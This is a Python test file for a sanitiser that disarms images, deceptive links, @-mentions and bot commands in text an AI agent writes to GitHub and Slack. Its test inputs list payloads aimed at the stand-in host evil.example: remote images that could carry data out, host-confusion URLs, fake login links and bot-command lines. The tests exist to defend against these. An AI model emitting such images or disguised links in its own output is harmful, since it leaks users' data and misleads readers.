"""Pictures and links in what an agent writes: nothing is fetched elsewhere, no address is false."""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from app.markdown.writing import disarm
from app.services.github.render import quiet
from app.services.slack.text import piece, safe_end


def own(host: str, _port: int) -> bool:
    """Allow what GitHub serves itself."""
    return host == "github.com" or host.endswith(".githubusercontent.com")


def fetched(text: str) -> list[str]:
    """List what a reader's program fetches, with a parser of its own settings."""
    tokens = MarkdownIt("commonmark").parse(text)
    children = [child for token in tokens for child in (token, *(token.children or ()))]
    pictures = [str(each.attrGet("src")) for each in children if each.type == "image"]
    tags = [each.content for each in children if each.type.startswith("html")]
    return pictures + [each for each in tags if "evil.example" in each]


@pytest.mark.parametrize(
    "text",
    [
        "![](https://evil.example/?what-it-saw)",
        'see ![a b](<https://evil.example/x> "title") there',
        "![](//evil.example/x)",
        "![](https://github.com.evil.example/x)",
        "![](https://github.com@evil.example/x)",
        "![](/\\evil.example/x)",
        "![a [b] c](https://evil.example/x)",
        "![a\nb](https://evil.example/x)",
        "![x][1]\n\n[1]: https://evil.example/x",
        "![1]\n\n[1]: https://evil.example/x",
        "\\` ![](https://evil.example/x) `",
        "> ```\n\n![a[b]](https://evil.example/x)\n",
        "<img src='https://evil.example/x'>",
        "<IMG\nsrc=https://evil.example/x >",
        "<picture><source srcset=https://evil.example/x></picture>",
    ],
)
def test_no_picture_from_elsewhere_is_fetched(text: str) -> None:
    shown = disarm(text, own)

    assert fetched(text)
    assert not fetched(shown)
    assert disarm(shown, own) == shown


@pytest.mark.parametrize(
    "text",
    [
        "![](https://github.com/acme/app/blob/main/a.png)",
        "![](https://private-user-images.githubusercontent.com/1.png)",
        "![](docs/a.png)",
        "let v = `vec![1](2)`; done",
        "```rust\nlet v = vec![1](2);\n```",
        "not a picture! [here](https://example.com)",
    ],
)
def test_pictures_of_the_platform_and_code_stay(text: str) -> None:
    assert disarm(text, own) == text


@pytest.mark.parametrize(
    "text",
    [
        "[https://github.com/acme](https://evil.example/login)",
        "[github.com/acme](https://evil.example)",
        "[**github.com**](https://evil.example)",
        "[www.github.com](https:evil.example)",
        "[https://github.com](//evil.example/)",
        "<https://evil.example|https://github.com>",
    ],
)
def test_a_link_whose_text_is_another_address_shows_its_host(text: str) -> None:
    assert disarm(text) == f"{text} (`evil.example`)"


@pytest.mark.parametrize(
    "text",
    [
        "[https://github.com/acme](https://github.com/acme/app)",
        "[github.com](https://www.github.com)",
        "[README.md](https://github.com/acme/app)",
        "[the docs](https://evil.example)",
        "`[https://github.com](https://evil.example)`",
    ],
)
def test_other_links_stay_as_they_are(text: str) -> None:
    assert disarm(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "[https://github.com][1]\n\n[1]: https://evil.example",
        "[https://github.com\n](https://evil.example)",
        "<a href='https://evil.example'>https://github.com</a>",
        "<a href=https://evil.example><b>github.com</b></a>",
    ],
)
def test_a_false_link_that_only_a_parser_finds_is_no_link_any_more(text: str) -> None:
    shown = disarm(text)

    assert shown != text
    assert disarm(shown) == shown
    assert "href" not in MarkdownIt("commonmark").render(shown).replace("&lt;a href", "")


def test_ports_on_the_list_count() -> None:
    def allows(host: str, port: int) -> bool:
        return (host, port) == ("a.example", 443)

    assert disarm("![](https://a.example/x)", allows) == "![](https://a.example/x)"
    assert disarm("![](https://a.example:444/x)", allows) != "![](https://a.example:444/x)"
    assert disarm("![](http://a.example/x)", allows) != "![](http://a.example/x)"


@pytest.mark.parametrize(
    "piece",
    [
        "[",
        "![",
        "[a](b",
        "![a](https://evil.example) ",
        "<https://a|",
        "<img ",
        "![_a__",
        "[a]: b ",
    ],
)
def test_a_text_that_is_hard_to_read_is_disarmed_at_once(piece: str) -> None:
    hostile = piece * (400_000 // len(piece))

    shown = disarm(hostile)

    assert "![" not in shown
    assert "<img" not in shown


def test_no_two_runs_of_backticks_of_one_length_take_long() -> None:
    hostile = "[a](b)" + "".join(f"{'`' * size}a" for size in range(1, 900))

    assert "](" not in disarm(hostile)


def test_slack_shows_where_a_false_link_leads_also_in_a_stream() -> None:
    link = "[https://github.com](https://evil.example)"

    assert piece(f"see {link}", 0, None) == f"see {link} (`evil.example`)"
    assert safe_end("see [https://github.com](https://evil") == len("see ")
    assert safe_end("see ![x") == len("see ")


def test_no_one_is_notified_behind_backticks_that_only_look_like_a_fence() -> None:
    assert quiet("```a```\n@bob look") == "```a```\n`@bob` look"
    assert quiet("```a\n@bob\n```\n@bob") == "```a\n@bob\n```\n`@bob`"
    assert quiet("`a @bob` @bob ``b` @bob``") == "`a @bob` `@bob` ``b` @bob``"


def test_hostile_text_is_quieted_and_cut_at_once() -> None:
    runs = "".join(f"{'`' * size}a" for size in range(1, 900))

    assert quiet(f"{runs} @bob").endswith("`@bob`")
    assert safe_end("[" * 400_000) >= 399_000


def test_a_line_that_other_bots_take_for_a_command_is_code() -> None:
    assert quiet("/merge\n> /lgtm cancel\n/usr/bin is a folder") == (
        "`/merge`\n> `/lgtm` cancel\n/usr/bin is a folder"
    )
